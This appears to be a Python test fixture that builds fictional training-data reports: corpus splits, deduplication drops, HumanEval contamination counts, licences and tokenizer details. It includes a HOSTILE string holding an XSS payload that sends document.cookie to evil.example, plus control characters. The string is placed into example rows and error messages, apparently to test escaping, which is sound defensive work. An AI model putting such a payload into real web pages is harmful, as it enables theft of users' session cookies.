"""The data of two runs that never were, the environment corpus of the demo and a mixture of named sources, and how far
the forms of a model agree."""

from headrace.reporting.data_facts import (
    Amount,
    Contamination,
    Damage,
    Data,
    Drop,
    ExampleRow,
    FoundItem,
    Packing,
    Piece,
    SoughtTask,
    Source,
    Split,
    Tokenizer,
)
from headrace.reporting.facts import Agreement, Estimate

AGREEMENT = (
    Agreement("in memory / reloaded checkpoint", 65_536, 0.0, Estimate(0.0), 0.0, True, 1e-6, 0, True),
    Agreement("reloaded, rounded to bf16, FP32 / exported, FP32", 65_536, 3.1e-7, Estimate(2.9e-8, -3.4e-9, 6.1e-8),
              2.4e-5, False, 1e-4, 2, True),
    Agreement("in memory (bf16) / exported, FP32", 65_536, 0.00312, Estimate(-0.00055, -0.0009, -0.0002), 0.0214,
              False, None, 0, True),
)  # fmt: skip

HOSTILE = "<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>\x00\x1b[31m"
EOS, BEGIN, HOLE, END = (
    Piece("control", f"<｜{name}｜>") for name in ("end▁of▁sentence", "fim▁begin", "fim▁hole", "fim▁end")
)


def _text(words: str) -> Piece:
    return Piece("text", words)


def _rows() -> tuple[ExampleRow, ...]:
    code = (
        'def read_config(path):\n    """Read a file."""\n    with open(path) as file:\n        return json.load(file)\n'
    )
    return (
        ExampleRow(
            "train-00000-of-00008", 0, 256, 256, 1,
            ((_text(code * 3), Piece("note", "goes on in the next row")),),
        ),
        ExampleRow(
            "train-00000-of-00008", 7, 256, 249, 2,
            (
                (_text(f"# {HOSTILE}\n" + code), Piece("note", "1,204 characters"), _text("    return value\n"), EOS),
                (BEGIN, _text("import js"), HOLE, _text("loads(text)\n"), END, _text("on\n\nvalue = json."), EOS),
                (Piece("note", "padding: 7"),),
            ),
        ),
    )  # fmt: skip


def _lengths(documents: int) -> tuple[int, ...]:
    """Shares of a corpus of source code."""
    shares = (0, 0, 0, 0, 0, 2, 11, 17, 19, 18, 14, 10, 6, 2.2, 0.7, 0.1)
    return tuple(round(documents * share / 100) for share in shares)


def environment_data() -> Data:
    """As the demo has it: one source, so that text is told apart by kind."""
    table = (("code", 3622, 29_800_000), ("docs", 1290, 9_700_000), ("text", 302, 1_700_000))
    splits = []
    for name, share in (("train", 0.92), ("validation", 0.04), ("held-out", 0.04)):
        kinds = tuple(Amount(kind, round(documents * share), round(size * share)) for kind, documents, size in table)
        size, documents = sum(kind.text_bytes for kind in kinds), sum(kind.documents for kind in kinds)
        tokens = round(size / 3.45)
        packed = tuple(Packing(length, round(tokens * 1.012 / length), 0.0123) for length in (256, 1024))
        rearranged = round(0.1006 * documents) if name == "train" else 0
        splits.append(
            Split(name, documents, size, tokens, kinds, _lengths(documents), packed, rearranged, 0, documents // 20)
        )
    licences = ("PSF-2.0", "BSD-3-Clause", "MIT", "Apache-2.0")
    names = ("Python standard library 3.11.7", "numpy 2.4.6", "sympy 1.14", "scipy 1.17", "networkx 3.6", "pandas 3.0")
    return Data(
        splits=tuple(splits),
        by="kind",
        drops=(
            Drop("exact duplicate", 412, {}),
            Drop("longer than max_document_bytes", 12, {}),
            Drop("not UTF-8", 3, {}),
        ),
        damaged=(Damage("environment", {"not UTF-8": 3}, ("stdlib/test/bad.py: not UTF-8 (byte 0xe4 at offset 17)",)),),
        quarantined=3,
        contamination=Contamination((SoughtTask("humaneval_likelihood", 164, 0),), (), 0),
        sources=tuple(
            Source(name, licences[i % 4], 900 - 80 * i, 9_000_000 - 850_000 * i) for i, name in enumerate(names)
        ),
        refused={"certifi": "MPL-2.0 is not in corpus.licences", "mystery": "declares no licence"},
        tokenizer=Tokenizer(4096, "fastokens", "0.3.5", "16.0", 0.1, 0.0),
        rows=_rows(),
    )


def mixed_data() -> Data:
    """Three sources of very different sizes; tokens of validation and held-out text are not told apart by source."""
    table = (("web", 9_400_000, 41_000_000_000), ("code", 2_100_000, 12_600_000_000), ("proofs", 800, 9_000_000))
    splits = []
    for name, share in (("train", 0.98), ("validation", 0.01), ("held-out", 0.01)):
        parts = tuple(
            Amount(source, round(documents * share), round(size * share), round(size * share / 4.4))
            if name == "train"
            else Amount(source, round(documents * share), round(size * share))
            for source, documents, size in table
        )
        size, documents = sum(part.text_bytes for part in parts), sum(part.documents for part in parts)
        tokens = round(size / 4.4)
        packed = (
            Packing(4096, round(tokens * 1.0003 / 4096), 0.0003),
            Packing(32768, round(tokens * 1.002 / 32768), 0.002),
        )
        splits.append(
            Split(name, documents, size, tokens, parts, _lengths(documents), packed, documents // 10, 9, documents // 9)
        )
    items = tuple(FoundItem(f"humaneval_likelihood/HumanEval/{i}", 1 + i % 3, 1 - i / 40) for i in range(30))
    return Data(
        splits=tuple(splits),
        by="source",
        drops=(
            Drop("near duplicate", 512_345, {"web": 512_000, "code": 345}),
            Drop("exact duplicate", 61_002, {"web": 60_000, "code": 1000, "proofs": 2}),
            Drop("contaminated", 37, {"code": 37}),
        ),
        damaged=(
            Damage(
                "web", {"not valid JSON": 7, "text is null": 1}, (f"web/<b>.jsonl line 4: not valid JSON {HOSTILE}",)
            ),
        ),
        quarantined=7,
        contamination=Contamination((SoughtTask("humaneval_likelihood", 164, 4),), items, 37),
        sources=(Source("web", "not stated", 9_400_000, 41_000_000_000),),
        refused={},
        tokenizer=Tokenizer(129_280, "tokenizers", "0.23.2", "15.1", 0.1, 0.05),
        rows=_rows(),
    )
